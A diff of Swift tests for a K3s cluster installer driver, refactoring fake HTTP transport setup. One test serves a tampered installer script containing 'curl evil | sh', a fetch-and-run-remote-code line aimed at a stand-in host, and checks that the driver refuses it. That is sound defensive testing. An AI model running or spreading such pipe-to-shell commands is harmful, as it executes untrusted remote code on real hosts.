@@ -100,9 +100,8 @@ struct K3sFixture {
         world = K3sWorld(paths: HostPaths(root: scratch.hostRoot))
         let w = world
         runner = RecordingRunner { try w.handle($0) }
-        transport = FakeTransport(nodes: { try w.serve($0) }) { _ in
-            HTTPResponse(status: 200, body: Array(installerScript.utf8))
-        }
+        transport = FakeTransport.serving(
+            nodes: { try w.serve($0) }, other: { _ in HTTPResponse(status: 200, body: Array(installerScript.utf8)) })
         host = makeHost(scratch, runner: runner, clock: clock, uid: uid, env: env, transport: transport)
     }
 
@@ -255,7 +254,7 @@ struct K3sFixture {
         let runner = RecordingRunner { try world.handle($0) }
         let host = makeHost(
             scratch, runner: runner, uid: 0, env: ["APHEX_K3S_INSTALL_URL": "file://" + script],
-            transport: FakeTransport(nodes: { try world.serve($0) }) { r in throw UnscriptedRequest(url: r.url) })
+            transport: FakeTransport.serving(nodes: { try world.serve($0) }))
         _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
         #expect(world.installerRuns.first?.script == installerScript)
 
@@ -341,10 +340,10 @@ struct K3sFixture {
         f.world.nodeReady = false
         let w = f.world, clock = f.clock
         let runner = RecordingRunner { try w.handle($0) }
-        let transport = FakeTransport(nodes: { r in
+        let transport = FakeTransport.serving(nodes: { r in
             if clock.now() >= .seconds(4) { w.lock.withLock { w.nodeReady = true } }
             return try w.serve(r)
-        }) { r in throw UnscriptedRequest(url: r.url) }
+        })
         let host = makeHost(f.scratch, runner: runner, clock: clock, uid: 0, transport: transport)
         let access = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
         #expect(access.outcome == .reused)
@@ -446,9 +445,9 @@ struct K3sFixture {
         // Reinstall (uninstalled meanwhile) with a different script: refused, nothing run.
         _ = try await f.driver().delete()
         let w = f.world
-        let changed = FakeTransport(nodes: { try w.serve($0) }) { _ in
-            HTTPResponse(status: 200, body: Array("#!/bin/sh\ncurl evil | sh\n".utf8))
-        }
+        let changed = FakeTransport.serving(
+            nodes: { try w.serve($0) },
+            other: { _ in HTTPResponse(status: 200, body: Array("#!/bin/sh\ncurl evil | sh\n".utf8)) })
         let host = makeHost(f.scratch, runner: f.runner, clock: f.clock, uid: 0, transport: changed)
         let runs = f.world.installerRuns.count
         let e = await #expect(throws: AphexError.self) {
